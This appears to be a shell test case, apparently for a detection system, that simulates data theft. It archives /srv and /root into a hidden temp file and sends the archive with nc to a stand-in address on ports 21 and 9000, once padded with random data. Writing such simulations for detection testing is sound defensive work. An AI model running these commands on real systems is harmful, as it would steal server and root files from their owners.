#!/bin/sh
. /opt/case/case.sh

tar -czf /tmp/.o.tgz /srv /root 2>/dev/null
nc -w 2 203.0.113.10 21 </tmp/.o.tgz
dd if=/dev/urandom bs=1M count=8 2>/dev/null | cat /tmp/.o.tgz - | nc -w 3 203.0.113.10 9000
took_place
